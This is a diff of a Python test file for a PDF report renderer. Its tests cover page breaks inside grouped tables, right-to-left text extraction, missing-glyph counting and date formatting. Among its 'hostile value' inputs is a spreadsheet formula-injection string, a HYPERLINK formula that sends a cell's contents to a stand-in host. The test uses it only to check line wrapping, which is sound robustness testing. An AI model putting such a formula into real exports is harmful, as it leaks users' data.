@@ -46,13 +46,12 @@ def _hostile_values() -> list[str]:
 
 
 def norm(text: str) -> str:
-    """Compatibility-normalised text without format characters, whitespace collapsed.
+    """Text without format characters, whitespace collapsed.
 
-    NFKC folds the Arabic presentation forms the shaper draws back to the letters written;
-    the format characters (bidi embeddings, zero-width joiners) are layout, not content, and
-    control characters other than line breaks are not printed in a PDF (they have no glyph).
+    The format characters (bidi embeddings pdftotext adds around right-to-left runs, zero-width
+    joiners) are layout, not content, and control characters other than line breaks are not
+    printed in a PDF (they have no glyph). Letters are compared as they are: no normalisation.
     """
-    text = unicodedata.normalize("NFKC", text)
     text = "".join(ch for ch in text if ch in "\t\n\r" or unicodedata.category(ch) not in ("Cf", "Cc"))
     return " ".join(text.split())
 
@@ -431,6 +430,68 @@ def test_grouped_render_prints_subtotals_and_grand_total(tmp_path):
     assert "B20 — Wholesale (continued)" in text
 
 
+def _data_row_numbers(page: str) -> list[int]:
+    return [int(m.group(1).replace(",", "")) for m in map(ROW_START.match, page.splitlines()) if m]
+
+
+def test_a_page_break_between_two_blocks_of_a_group_opens_the_page_with_its_heading(tmp_path):
+    """When a page ends exactly where one block of rows ends (ROWS_PER_BLOCK rows, the group's
+    heading first) and the next page starts the next block, inside the group, that page opens
+    with the group's heading marked "(continued)", as every page does that breaks inside a group."""
+    columns = [PdfColumn("n", "No.", width=1), PdfColumn("name", "Name", width=4),
+               PdfColumn("amount", "Amount", "decimal", width=2)]
+    last_of_first_block = ROWS_PER_BLOCK - 1
+    # Two-line rows at the top move every page end up the list of rows; some count of them
+    # makes a page end exactly at the first block's last row.
+    for two_line in range(60):
+        rows = [(str(i), f"row {i}" + ("\nsecond line" if i <= two_line else ""), Decimal(i))
+                for i in range(1, ROWS_PER_BLOCK + 80)]
+        out = io.BytesIO()
+        render_grouped_pdf(columns, [Group("G", "Main", rows)], PdfLayout(title="Blocks"), out)
+        pages = pdftotext(out.getvalue(), tmp_path, "-layout")
+        page_ends = [_data_row_numbers(page)[-1] for page in pages[:-1]]
+        if last_of_first_block in page_ends:
+            break
+    else:
+        pytest.fail("no page ended at the first block's last row")
+    opened = pages[page_ends.index(last_of_first_block) + 1]
+    lines = [norm(line) for line in opened.splitlines() if line.strip()]
+    first_of_next_block = f"{ROWS_PER_BLOCK} row {ROWS_PER_BLOCK} {ROWS_PER_BLOCK}"
+    assert lines[:3] == ["No. Name Amount", "G — Main (continued)", first_of_next_block]
+    for page in pages[1:]:
+        assert [norm(line) for line in page.splitlines() if line.strip()][1] == "G — Main (continued)"
+
+
+def test_a_block_of_rows_never_ends_with_a_group_heading():
+    """A group heading that would fall last in a block keeps its first row in the block, so a
+    page that ends where the block ends does not end with the heading."""
+    from app.rendering.pdf.document import Styles, _blocks, _Placement, _Table, grouped_rows
+
+    columns = [PdfColumn("name", "Name", width=4), PdfColumn("amount", "Amount", "decimal")]
+    table = _Table(columns, PdfLayout(title="T"), 500.0, Styles(), Counter())
+    # The first group's heading, rows and subtotal fill a block but its last row: B's heading.
+    first = [(f"a{i}", 1) for i in range(ROWS_PER_BLOCK - 3)]
+    groups = [Group("A", "First", first), Group("B", "Second", [("b", 2), ("c", 3)])]
+    blocks = list(_blocks(grouped_rows(table, groups), 500.0, _Placement(None, None), None))
+    assert [block.rows[-1].kind for block in blocks] == ["data", "total"]
+    assert [row.kind for row in blocks[0].rows[-3:]] == ["subtotal", "heading", "data"]
+
+
+def test_a_total_label_on_a_line_of_its_own_never_ends_a_page():
+    """When the first column is a number, a subtotal's label has a line of its own above the
+    figures: where only the label would fit, it goes over to the next page with them."""
+    from app.rendering.pdf.document import Styles, _Block, _Placement, _Table
+
+    columns = [PdfColumn("amount", "Amount", "decimal"), PdfColumn("name", "Name", width=4)]
+    table = _Table(columns, PdfLayout(title="T"), 500.0, Styles(), Counter())
+    data = table.data((Decimal(1), "x"))
+    label, figures = table.totals("subtotal", "Subtotal A · 1 row", {"amount": Decimal(1)})
+    block = _Block([data, label, figures], 500.0, _Placement(None, None))
+    here, there = block.split(500.0, data.height + label.height + 1)
+    assert here.rows == [data]
+    assert there.rows == [label, figures]
+
+
 def test_grouped_render_prints_given_subtotals(tmp_path):
     """Subtotals supplied with a group are printed as given and feed the grand total."""
     columns = [PdfColumn("label", "Label", width=3), PdfColumn("amount", "Amount", "decimal")]
@@ -570,6 +631,27 @@ def test_every_script_of_the_demo_data_prints_with_its_own_font_and_reads_back(t
     assert warnings[GLYPH_MISSING] == 0
 
 
+# pdftotext wraps each right-to-left run it outputs in RLE/LRE ... PDF (U+202B, U+202A, U+202C):
+# those come from poppler's own reordering, not from the PDF, and are all that is taken out.
+POPPLER_EMBEDDINGS = {0x202A: None, 0x202B: None, 0x202C: None}
+
+
+@pytest.mark.parametrize("mode", [(), ("-layout",), ("-raw",)], ids=["reading", "layout", "raw"])
+def test_arabic_and_hebrew_extract_as_their_own_letters_in_logical_order(tmp_path, mode):
+    """pdftotext gives an Arabic and a Hebrew name exactly as written, letter for letter (no
+    presentation forms, no normalisation), in logical order: in reading, layout and raw mode."""
+    arabic, hebrew = SCRIPT_NAMES["Arabic"][0], SCRIPT_NAMES["Hebrew"][0]
+    out = io.BytesIO()
+    render_table_pdf([PdfColumn("name", "Name")], [(arabic,), (hebrew,), ("Zoë Ødegaard",)],
+                     PdfLayout(title="Right to left"), out)
+    lines = [
+        " ".join(line.translate(POPPLER_EMBEDDINGS).split())
+        for line in "\n".join(pdftotext(out.getvalue(), tmp_path, *mode)).splitlines()
+    ]
+    assert arabic in lines
+    assert hebrew in lines
+
+
 def test_indic_text_is_shaped_not_drawn_letter_by_letter():
     """HarfBuzz forms the conjunct of प्र: the line draws fewer glyphs than it has characters."""
     from app.rendering.pdf.lines import TextStyle
@@ -682,3 +764,214 @@ def test_a_repeated_value_is_counted_every_time_it_prints():
     render_table_pdf([PdfColumn("s", "S")], [("🙂",), ("🙂",), ("🙂",)], PdfLayout(title="T"), out,
                      warnings=warnings)
     assert warnings[GLYPH_MISSING] == 3
+
+
+# --------------------------------------------------------------------------- hostile values in every kind of report
+
+# The characters of the hostile values that no committed font draws: two emoji, the woman of
+# the joined emoji sequence, the laptop, and two control characters.
+NO_FONT_HAS = ["🙂", "👩", "💻", "\x01", "\x1f"]
+
+
+def _render_hostile(kind: str, values: list[str], warnings: Counter) -> tuple[bytes, int]:
+    """``values`` in a report of ``kind``; returns the PDF and how often each value prints."""
+    out = io.BytesIO()
+    layout = PdfLayout(title="Hostile values")
+    if kind == "table":
+        render_table_pdf([PdfColumn("n", "N", "integer", width=1), PdfColumn("v", "Value", width=8)],
+                         list(enumerate(values, start=1)), layout, out, warnings=warnings)
+        return out.getvalue(), 1
+    if kind == "coded":
+        # Each value is a group's description (in its heading) and its only row's text.
+        groups = [Group(f"G{i}", value, [(value, i)]) for i, value in enumerate(values, start=1)]
+        render_grouped_pdf([PdfColumn("v", "Value", width=6), PdfColumn("n", "N", "integer", width=1)],
+                           groups, layout, out, warnings=warnings)
+        return out.getvalue(), 2
+    # A figure's label and a chart bar's label.
+    render_summary_pdf(layout, [(value, i) for i, value in enumerate(values, start=1)],
+                       [(value, i) for i, value in enumerate(values, start=1)], out, chart_title="Chart",
+                       warnings=warnings)
+    return out.getvalue(), 2
+
+
+@pytest.mark.parametrize("kind", ["table", "coded", "summary"])
+def test_every_hostile_value_prints_in_every_kind_of_report(tmp_path, kind):
+    """Each hostile value is in the PDF's text layer as written (white space aside), as often as
+    it prints; the characters no font has are each counted as glyph_missing every time, and
+    nothing else is."""
+    values = _hostile_values()
+    warnings: Counter = Counter()
+    data, prints = _render_hostile(kind, values, warnings)
+    # "raw" keeps a wrapped value's lines together, in the order they are drawn.
+    text = "".join("\n".join(pdftotext(data, tmp_path, "-raw")).translate(POPPLER_EMBEDDINGS).split())
+    for value in values:
+        assert text.count("".join(value.split())) >= prints, f"{value!r} does not print {prints} times"
+    missing = sum(value.count(char) for value in values for char in NO_FONT_HAS)
+    assert warnings == Counter({GLYPH_MISSING: missing * prints})
+
+
+SPACES_SOME_FONTS_LACK = ["Ann\u3000Lee", "Ogham\u1680space", "محمد\u2009الأمين", "山田\u202f太郎"]
+
+
+def test_no_line_draws_the_empty_box_of_a_font_that_lacks_a_character():
+    """A space a font lacks (ideographic in Latin, ogham, a thin space in Arabic, a narrow one in
+    CJK) is drawn as a plain space and a control character as the replacement mark: no piece
+    of a line draws a character its font has no glyph for, nor HarfBuzz's empty glyph."""
+    from reportlab.pdfbase.pdfmetrics import getFont
+
+    from app.rendering.pdf.lines import TextStyle
+
+    style = TextStyle(bold=False, size=8, leading=10)
+    for value in [*_hostile_values(), *SPACES_SOME_FONTS_LACK, "tab\x1dsep"]:
+        for text in value.splitlines():
+            for piece in style.line(text, Counter()).pieces:
+                glyphs = getFont(piece.font).face.charToGlyph
+                # Glyph 0 is the font's empty box; shaped text maps each glyph to a character.
+                assert [ch for ch in piece.text if glyphs.get(ord(ch), 0) == 0] == [], (value, piece)
+
+
+def test_spaces_and_controls_a_font_lacks_stay_in_the_text_layer(tmp_path):
+    """The characters drawn as a plain space or a replacement mark are in the text layer as
+    written; each control character counts as a missing glyph."""
+    warnings: Counter = Counter()
+    values = ["Ann\u3000Lee", "Ogham\u1680space", "bell\x07", "escape\x1b[0m"]
+    out = io.BytesIO()
+    render_table_pdf([PdfColumn("v", "Value")], [(v,) for v in values], PdfLayout(title="Spaces"), out,
+                     warnings=warnings)
+    lines = "\n".join(pdftotext(out.getvalue(), tmp_path, "-raw")).splitlines()
+    for value in values:
+        assert value in lines
+    assert warnings == Counter({GLYPH_MISSING: 2})
+
+
+def test_unicode_line_separators_break_the_line():
+    """Vertical tab, form feed, next line and the line and paragraph separators start a new
+    line, as a line feed does: neither dropped nor drawn."""
+    from app.rendering.pdf.lines import TextStyle
+
+    style = TextStyle(bold=False, size=8, leading=10)
+    for separator in "\v\f\x85\u2028\u2029":
+        assert len(style.lay_out(f"one{separator}two", 200.0, Counter())) == 2, repr(separator)
+
+
+def test_half_a_surrogate_pair_prints_as_a_counted_replacement_mark(tmp_path):
+    """A lone surrogate (text decoded with errors allowed) does not stop the PDF: it prints as
+    the replacement mark and counts as a missing glyph."""
+    warnings: Counter = Counter()
+    data, _ = render([PdfColumn("v", "Value")], [("a\ud800b",)], warnings=warnings)
+    assert "a\ufffdb" in "\n".join(pdftotext(data, tmp_path, "-raw"))
+    assert warnings == Counter({GLYPH_MISSING: 1})
+
+
+def test_bytes_that_are_not_utf8_print_as_their_escapes():
+    """A byte value prints as text; a byte that is not UTF-8 prints as its escape, not a mark."""
+    layout = PdfLayout(title="t")
+    assert format_value(PdfColumn("b", "B"), b"caf\xc3\xa9 \xff", layout) == "café \\xff"
+
+
+def test_a_continued_group_heading_counts_its_missing_glyphs_on_each_page_it_opens(tmp_path):
+    """A group description with an emoji counts once for its heading and once for each page its
+    "(continued)" heading opens, and not for the pages it does not."""
+    warnings: Counter = Counter()
+    out = io.BytesIO()
+    render_grouped_pdf([PdfColumn("v", "Value")],
+                       [Group("A", "🙂 Team", [(f"row {i}",) for i in range(150)]), Group("B", "Other", [("x",)])],
+                       PdfLayout(title="Groups"), out, warnings=warnings)
+    pages = pdftotext(out.getvalue(), tmp_path, "-raw")
+    continued = sum("A — 🙂 Team (continued)" in page for page in pages)
+    assert continued >= 2
+    assert warnings == Counter({GLYPH_MISSING: 1 + continued})
+
+
+def test_a_summary_chart_of_long_labels_runs_on_to_the_next_page(tmp_path):
+    """Thirty bars with labels long enough to fill their lines do not fit one page: the chart
+    goes on over the next, every bar printed."""
+    labels = [f"Group {i:02d} " + "long label " * 200 for i in range(30)]
+    out = io.BytesIO()
+    render_summary_pdf(PdfLayout(title="Summary"), [("Rows", 30)], [(label, i) for i, label in enumerate(labels)],
+                       out, chart_title="By group")
+    pages = pdftotext(out.getvalue(), tmp_path, "-raw")
+    assert len(pages) > 1
+    text = "\n".join(pages)
+    assert [f"Group {i:02d}" in text for i in range(30)] == [True] * 30
+
+
+def test_a_right_to_left_group_description_keeps_the_row_count_after_it():
+    """In the heading "A1 — محمد الأمين · 9 rows" the count stays where the sentence puts it, right
+    of the Arabic name: the name is set apart for the bidi algorithm, which would otherwise read
+    the number with the Arabic and print it before the name."""
+    out = io.BytesIO()
+    render_grouped_pdf([PdfColumn("v", "Value")], [Group("A1", "محمد الأمين", [("x",), ("y",)], row_count=9)],
+                       PdfLayout(title="Headings"), out)
+    words = words_with_boxes(out.getvalue())
+    arabic = [x1 for _, x1, text in words if _RIGHT_TO_LEFT.search(text)]
+    (count,) = [x0 for x0, _, text in words if text == "9"]
+    assert arabic and count > max(arabic)
+
+
+_RIGHT_TO_LEFT = re.compile(r"[\u0590-\u08ff]")
+
+
+def test_negative_chart_bars_run_left_of_a_zero_line_shared_with_the_positive_ones():
+    """A chart of 30 and -10: the negative bar ends where the positive one starts (the zero
+    line) and is a third as long, so its side and length both read as its value."""
+    from pypdf.generic import ContentStream
+
+    out = io.BytesIO()
+    render_summary_pdf(PdfLayout(title="Chart"), [], [("up", 30), ("down", -10)], out)
+    reader = PdfReader(io.BytesIO(out.getvalue()))
+    operations = ContentStream(reader.pages[0].get_contents(), reader).operations
+    (up_x, _, up_width, _), (down_x, _, down_width, _) = [
+        [float(operand) for operand in operands] for operands, operator in operations if operator == b"re"
+    ]
+    assert down_x + down_width == pytest.approx(up_x)
+    assert up_width == pytest.approx(3 * down_width)
+
+
+def test_punctuation_that_opens_a_long_word_stays_with_it_when_the_word_breaks():
+    """A formula-looking value wrapped in a narrow column does not leave its "=" alone on the
+    first line; the lines still join to the value."""
+    from app.rendering.pdf.lines import TextStyle
+
+    value = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
+    lines = TextStyle(bold=False, size=8, leading=10).lay_out(value, 50.0, Counter())
+    texts = ["".join(piece.text for piece in line.pieces) for line in lines]
+    assert "".join(texts) == value
+    assert texts[0].startswith("=H")
+
+
+def test_a_time_with_an_offset_prints_in_utc():
+    """18:00 at +02:00 prints as 16:00 (and its date as the UTC date), as the CSV and XLSX writers
+    give it: the page labels times UTC."""
+    from datetime import timedelta, timezone
+
+    moment = datetime(2026, 11, 2, 18, 0, tzinfo=timezone(timedelta(hours=2)))
+    assert format_datetime(moment, "%d/%m/%Y %H:%M") == "02/11/2026 16:00"
+    assert format_datetime("2026-11-02T00:30:00-01:00", "%d/%m/%Y %H:%M") == "02/11/2026 01:30"
+    assert format_date(datetime(2026, 11, 3, 1, 0, tzinfo=timezone(timedelta(hours=2))), "%d/%m/%Y") == "02/11/2026"
+    # The last minute of the calendar at -01:00 has no UTC time: it prints as written.
+    last = datetime(9999, 12, 31, 23, 59, tzinfo=timezone(timedelta(hours=-1)))
+    assert format_datetime(last, "%d/%m/%Y %H:%M") == "9999-12-31T23:59:00-01:00"
+
+
+def test_numbers_dates_and_header_words_too_wide_for_their_column_are_set_smaller_not_broken():
+    """Fourteen columns on a portrait page: each amount, date and time prints as one word inside
+    its column (smaller), never as "-12,345." over "25"; each header word stays whole."""
+    labels = ["Entry ID", "Employee", "Team", "Work date", "Hours worked", "Approved", "Note", "Project",
+              "Recorded at", "Hourly rate", "Days", "Role", "Shift starts", "Amount owed"]
+    kinds = ["integer", "text", "text", "date", "decimal", "boolean", "text", "text", "datetime", "decimal",
+             "decimal", "text", "datetime", "decimal"]
+    columns = [PdfColumn(f"c{i}", label, kind) for i, (label, kind) in enumerate(zip(labels, kinds, strict=True))]
+    row = (1, "Ann Lee", "Team A", date(2026, 10, 1), Decimal("1234567.50"), True, "note", "Ward 1",
+           datetime(2026, 11, 2, 18, 0), Decimal("-12345.25"), Decimal("5.5"), "Role", datetime(2026, 11, 2, 7, 0),
+           Decimal("98765432.10"))
+    data, _ = render(columns, [row])
+    words = words_with_boxes(data)
+    texts = [text for _, _, text in words]
+    for whole in ["01/10/2026", "1,234,567.50", "02/11/2026", "-12,345.25", "98,765,432.10", *" ".join(labels).split()]:
+        assert whole in texts, whole
+    column_width = (595.28 - 2 * pdf.MARGIN_SIDE) / len(columns)
+    for x0, x1, text in words:
+        if text in ("-12,345.25", "98,765,432.10"):
+            column = int((x0 - pdf.MARGIN_SIDE) // column_width)
+            assert x1 <= pdf.MARGIN_SIDE + (column + 1) * column_width + 0.5
